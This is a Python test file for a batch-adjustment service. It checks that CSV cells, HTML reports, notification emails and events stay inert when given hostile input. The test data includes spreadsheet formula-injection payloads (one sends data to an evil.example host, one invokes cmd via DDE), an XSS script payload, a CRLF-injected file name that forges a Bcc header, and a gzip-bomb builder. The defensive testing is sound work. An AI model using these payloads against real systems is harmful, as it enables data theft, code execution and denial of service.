"""What is written into files, their names and answers stays text: in sheets, pages and mails."""

import csv
import gzip
import io
import json
import re
import tracemalloc
import zlib
from html.parser import HTMLParser
from typing import Any

import pytest

from adjustments.batches.store import ALL_BATCHES
from adjustments.core import limits
from adjustments.submission.csv.csv_injection import unescape_formula
from local.standin.server import StandIn
from tests.fakes.world import World
from tests.functional.adjusting import test_handlers
from tests.functional.adjusting.test_client import control
from tests.functional.adjusting.test_handlers import call, dropped

world = test_handlers.world  # the fixture

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1)", " =1+1", "=1",
    "＝1+1", "'=1",
]  # fmt: skip
IN_REASONS = [*FORMULAS, "\t=1", "a\n=1+1", "\n=1"]
HTML = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
RUNS = re.compile(r"^[\s]*[=+\-@＝＋－＠]|^[\t\r\n]")
NUMBER = re.compile(r"-?[0-9.]+")


def go(world: World, content: bytes, key: str = "inbox/f.csv") -> str:
    """Take a file through all steps; the batch's id."""
    world.files.drop(key, content)
    assert call("submit_batch", dropped(key)) == {"batchItemFailures": []}
    [(_, batch_id)] = world.executions.started
    world.run(world.store.batch(batch_id))
    return batch_id


def sheet(world: World, batch_id: str, name: str) -> list[list[str]]:
    text = world.files.get(f"results/{batch_id}/{name}").decode()
    return list(csv.reader(text.splitlines(keepends=True)))


def csv_of(rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


@pytest.mark.parametrize("name", ["results.csv", "fix-me.csv"])
def test_no_cell_of_a_result_runs_in_a_spreadsheet(world: World, gameball: StandIn, name: str):
    """Customers and reasons from the file, and Gameball's own words: the customers are unknown to it."""
    rows = [[formula, "1", reason] for formula, reason in zip(FORMULAS, IN_REASONS, strict=False)]
    rows += [[f"unknown-{number}", "1", reason] for number, reason in enumerate(IN_REASONS)]
    batch_id = go(
        world, csv_of([["=customerId", "customerId", "amount", "reason"], *(["", *r] for r in rows)])
    )
    cells = [cell for row in sheet(world, batch_id, name) for cell in row]
    assert len(cells) > 5 * len(rows)
    assert [cell for cell in cells if RUNS.search(cell) and not NUMBER.fullmatch(cell)] == []


def test_gameballs_words_do_not_run_either(world: World, gameball: StandIn):
    fault = {
        "path": "/batch/balance-adjustment",
        "kind": "status",
        "status": 400,
        "message": "=cmd|' /C calc'!A0",
    }
    control(gameball, "faults", {**fault, "times": 9})
    batch_id = go(world, b"customerId,amount\nc1,5\n")
    for name in ("results.csv", "fix-me.csv"):
        [_, row] = sheet(world, batch_id, name)
        assert any("calc" in cell for cell in row)
        assert [cell for cell in row if RUNS.search(cell)] == []


def test_programs_get_every_cell_back_as_it_was_sent(world: World, gameball: StandIn):
    known = [formula for formula in FORMULAS if formula.strip() == formula and formula != "'=1"]
    customers = {"customers": [{"customerId": formula, "balance": 5} for formula in known]}
    control(gameball, "customers", customers)
    batch_id = go(world, csv_of([["customerId", "amount"], *([formula, "1"] for formula in known)]))
    assert [unescape_formula(row[1]) for row in sheet(world, batch_id, "results.csv")[1:]] == known
    assert [entry["customerId"] for entry in control(gameball, "audit")["applied"]] == known


class Page(HTMLParser):
    """The elements of a page, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def test_markup_from_a_file_its_name_and_gameball_is_text_in_the_report(world: World, gameball: StandIn):
    fault = {
        "path": "/batch/balance-adjustment",
        "kind": "status",
        "status": 400,
        "message": HTML,
        "times": 9,
    }
    control(gameball, "faults", fault)
    batch_id = go(world, csv_of([["customerId", "amount", "reason"], [HTML, "5", HTML]]), f"inbox/{HTML}.csv")
    raw = world.files.get(f"results/{batch_id}/report.html").decode()
    page = Page(raw)
    assert page.text.count("<script>alert(1)</script>") >= 3, "customer, file and message are shown"
    names = {name for name, _ in page.elements}
    assert names.isdisjoint({"script", "img", "iframe", "object", "embed", "base", "form"})
    assert [attrs["href"] for name, attrs in page.elements if name == "link"] == ["data:,"]
    assert [name for _, attrs in page.elements for name in attrs if name.startswith("on")] == []
    [policy] = [attrs["content"] for _, attrs in page.elements if attrs.get("http-equiv")]
    assert policy is not None
    assert "default-src 'none'" in policy


CRLF = 'inbox/x\r\nBcc: evil@x.example\r\nResults: s3://evil/\u2028{"status":"completed"}.csv'


def test_name_of_a_file_forges_no_line_of_a_mail_and_no_field_of_an_event(world: World, gameball: StandIn):
    batch_id = go(world, b"customerId,amount\nc1,5\n", CRLF)
    assert re.fullmatch(r"[0-9]{8}-[0-9]{6}-[a-z0-9-]+", batch_id)
    [(subject, text)] = world.notifications.mails
    assert subject == f"completed: {batch_id}"
    assert [line for line in text.splitlines() if line.startswith(("Bcc", "Results: s3", "{"))] == []
    assert "File: inbox/x" in text
    [(_, detail)] = world.notifications.events
    assert (detail["batchId"], detail["status"]) == (batch_id, "completed")
    assert detail["source"]["key"] == CRLF, "programs get it as it is"
    assert json.loads(world.files.get(f"results/{batch_id}/summary.json"))["source"]["key"] == CRLF


def test_word_of_a_person_forges_no_line_of_a_mail(world: World, gameball: StandIn):
    control(gameball, "settings", {"job_delay_s": 3600})
    world.files.drop("inbox/f.csv", b"customerId,amount\nc1,5\n")
    call("submit_batch", dropped("inbox/f.csv"))
    [(_, batch_id)] = world.executions.started
    note = {"note": "wrong file\r\n\r\nResults: https://evil.example/"}
    assert test_handlers.request("POST", f"/batches/{batch_id}/stop", note)[0] == 200
    control(gameball, "settings", {"job_delay_s": 0})
    world.run(world.store.batch(batch_id))
    [(_, text)] = world.notifications.mails
    assert "Why: stopped by arn:ann: wrong file" in text
    assert [line for line in text.splitlines() if line.startswith("Results: https://evil")] == []


def bomb(whole: bytes, times: int) -> bytes:
    """A gzip of one block over and over, made from one compressed copy of it."""
    head = zlib.compressobj(9, zlib.DEFLATED, 31)
    return head.compress(b"customerId,amount\nc1,5\n") + head.flush() + gzip.compress(whole, 9) * times


@pytest.mark.parametrize(
    ("filling", "mebibytes", "told"),
    [
        (b"\0" * 2**20, 1024, "zeros"),
        (b"x" * 2**20, 1024, "a line without an end"),
        (b'"' + b"x" * (2**20 - 1), 1024, "a quote without an end"),
    ],
    ids=["zeros", "line", "quote"],
)
def test_gzip_of_a_gibibyte_is_refused_and_costs_nothing(
    world: World, gameball: StandIn, filling: bytes, mebibytes: int, told: str
):
    packed = bomb(filling, mebibytes)
    assert len(packed) < 3_000_000
    tracemalloc.start()
    try:
        batch_id = go(world, packed, "inbox/bomb.csv.gz")
        peak_bytes = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak_bytes < 32 * 2**20
    assert world.store.batch(batch_id).status.value == "rejected"
    assert control(gameball, "requests")["requests"] == []


def test_gzip_within_a_gzip_is_not_unpacked_twice(world: World, gameball: StandIn):
    batch_id = go(world, gzip.compress(gzip.compress(b"customerId,amount\nc1,5\n")), "inbox/twice.csv.gz")
    assert world.store.batch(batch_id).status.value == "rejected"


@pytest.mark.parametrize(
    "metadata",
    [
        {"dry-run": "true\r\nallow-duplicate: true"},
        {"x-amz-meta-allow-duplicate": "true"},
        {"allow-duplicate": "TRUE\0"},
        {"allow-duplicate": "yes"},
    ],
)
def test_metadata_says_what_it_says_and_no_more(world: World, gameball: StandIn, metadata: dict[str, Any]):
    content = b"customerId,amount\nc1,5\n"
    for version in (None, metadata):
        world.files.drop("inbox/f.csv", content, version)
        call("submit_batch", dropped("inbox/f.csv"))
    batches, _ = world.store.batches(ALL_BATCHES, 10, None)
    assert [bool(batch.refusal) for batch in batches].count(True) == 1
    assert len(control(gameball, "audit")["applied"]) == 1


def test_row_of_endless_cells_is_refused(world: World, gameball: StandIn):
    row = b"," * (limits.ROW_CHARS_MAX + 1)
    batch_id = go(world, b"customerId,amount\nc1,5\n" + row + b"\n")
    assert world.store.batch(batch_id).status.value == "rejected"
